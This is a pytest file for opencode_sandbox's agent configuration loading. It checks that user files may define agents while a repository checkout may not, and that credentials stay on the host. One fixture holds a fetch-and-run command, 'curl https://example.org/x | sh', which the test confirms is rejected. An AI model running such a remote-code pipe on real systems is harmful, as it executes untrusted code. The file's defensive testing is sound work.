"""The `agents` key in the layers of the configuration: only the user's own files define an agent,
a per-project file adds to them, and `agent`, `--agent` or the checkout then choose one by name."""

from __future__ import annotations

from pathlib import Path

import pytest

from opencode_sandbox.app import _with_agent_credentials
from opencode_sandbox.config.loader import config_files, load_settings
from opencode_sandbox.core.agents import PROFILES
from opencode_sandbox.errors import ConfigError

SLUG = "demo-0123456789abcd"
AMP = """\
agents:
  amp:
    title: Amp
    package: "@sourcegraph/amp"
    command: amp
    credentials:
      - {variable: AMP_API_KEY, hosts: [ampcode.com], headers: [authorization]}
    hosts: [cdn.ampcode.com]
"""


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path]:
    user_dir = tmp_path / "config" / "opencode-sandbox"
    project = tmp_path / "project"
    (project / ".opencode-sandbox").mkdir(parents=True)
    (user_dir / SLUG).mkdir(parents=True)
    return user_dir, project


def files(layout: tuple[Path, Path]) -> list[Path]:
    return config_files(layout[0], SLUG, layout[1])


def refused(layout: tuple[Path, Path], environ: dict[str, str] | None = None,
            flags: dict[str, object] | None = None) -> ConfigError:
    with pytest.raises(ConfigError) as caught:
        load_settings(files(layout), environ or {}, flags or {})
    return caught.value


def test_the_users_own_agent_is_chosen_like_a_built_in_one(layout: tuple[Path, Path]) -> None:
    user_dir, _ = layout
    (user_dir / "config.yaml").write_text(AMP + "agent: amp\nnetwork: allowlist\n")
    settings = load_settings(files(layout), {}, {})
    assert settings.agent == "amp" and settings.agent_profile.title == "Amp"
    assert settings.profile_named("codex").title == "Codex"
    assert [rule.text for rule in settings.agent_hosts] == ["cdn.ampcode.com", "ampcode.com"]
    assert load_settings(files(layout), {}, {"agent": "codex"}).agent_profile.name == "codex"


def test_the_flag_and_the_environment_choose_it_too(layout: tuple[Path, Path]) -> None:
    user_dir, _ = layout
    (user_dir / "config.yaml").write_text(AMP)
    assert load_settings(files(layout), {}, {"agent": "amp"}).agent_profile.package == "@sourcegraph/amp"
    assert load_settings(files(layout), {"OPENCODE_SANDBOX_AGENT": "amp"}, {}).agent == "amp"


def test_a_name_no_agent_has_is_refused_with_the_names_there_are(layout: tuple[Path, Path]) -> None:
    user_dir, _ = layout
    config = user_dir / "config.yaml"
    config.write_text(AMP + "agent: ampp\n")
    error = refused(layout)
    assert error.message == (f"{config}:9: invalid value for 'agent': 'ampp' is not an agent; choose one of: "
                             f"{', '.join(PROFILES)}, amp")
    assert error.hint is not None and "'agents'" in error.hint
    config.write_text(AMP)
    assert refused(layout, flags={"agent": "vim"}).message.startswith("flag --agent: invalid value for 'agent': "
                                                                      "'vim' is not an agent")


def test_a_per_project_file_adds_agents_and_replaces_one_of_the_same_name(layout: tuple[Path, Path]) -> None:
    user_dir, _ = layout
    (user_dir / "config.yaml").write_text(AMP + "  crab: {package: crab-agent, command: crab}\n")
    (user_dir / SLUG / "config.yaml").write_text("agents:\n  crab: {install: 'pip install crab', command: crab}\n"
                                                 "  mole: {package: mole-cli, command: mole}\n")
    settings = load_settings(files(layout), {}, {})
    assert [(agent.name, agent.package, agent.install) for agent in settings.agents] == [
        ("amp", "@sourcegraph/amp", ""), ("crab", "", "pip install crab"), ("mole", "mole-cli", "")]
    assert settings.sources["agents"] == (f"{user_dir / 'config.yaml'}:1 and {user_dir / SLUG / 'config.yaml'}:1")


def test_the_checkout_may_not_define_an_agent(layout: tuple[Path, Path]) -> None:
    user_dir, project = layout
    checkout_file = project / ".opencode-sandbox" / "config.yaml"
    checkout_file.write_text("agents:\n  helper: {install: 'curl https://example.org/x | sh', command: x}\n"
                             "agent: helper\n")
    error = refused(layout)
    assert error.message == (f"{checkout_file}:1: 'agents' cannot be set in the project's checkout, which the agent "
                             "in the VM can write: it would run a command of the repository's choosing at image build")
    assert error.hint is not None and str(user_dir / SLUG / "config.yaml") in error.hint


def test_the_checkout_may_choose_the_users_agent_and_gets_neither_its_hosts_nor_its_key(
        layout: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    user_dir, project = layout
    (user_dir / "config.yaml").write_text(AMP + "network: allowlist\n")
    (project / ".opencode-sandbox" / "config.yaml").write_text("agent: amp\n")
    monkeypatch.setenv("AMP_API_KEY", "sk-amp-host-value")
    chosen_by_checkout = load_settings(files(layout), {}, {})
    assert chosen_by_checkout.agent == "amp" and chosen_by_checkout.agent_from_checkout
    assert chosen_by_checkout.agent_hosts == ()
    assert _with_agent_credentials(chosen_by_checkout, user_dir, SLUG).secrets == ()

    chosen_by_user = load_settings(files(layout), {}, {"agent": "amp"})
    [secret] = _with_agent_credentials(chosen_by_user, user_dir, SLUG).secrets
    assert secret.describe() == "AMP_API_KEY -> ampcode.com (headers authorization)"


def test_a_bad_definition_names_the_file_the_key_the_agent_and_the_field(layout: tuple[Path, Path]) -> None:
    user_dir, _ = layout
    config = user_dir / "config.yaml"
    config.write_text("cpus: 2\nagents:\n  amp: {package: '@sourcegraph/amp', command: amp, config: [.codex]}\n")
    error = refused(layout)
    assert error.message == (f"{config}:2: invalid value for 'agents': amp: config: '.codex' would copy Codex's login "
                             "~/.codex/auth.json into the VM; that stays on your host")
    config.write_text("agents:\n  amp:\n    package: x\n    command: amp\n    credentials:\n"
                      "      - {variable: DOCKER_HOST, hosts: [a.example]}\n")
    assert "'DOCKER_HOST' is read by msb or docker on this host itself" in refused(layout).message


def test_the_environment_cannot_define_an_agent(layout: tuple[Path, Path]) -> None:
    error = refused(layout, environ={"OPENCODE_SANDBOX_AGENTS": "amp"})
    assert error.message.startswith("environment OPENCODE_SANDBOX_AGENTS: invalid value for 'agents': define agents "
                                    "in your configuration file")
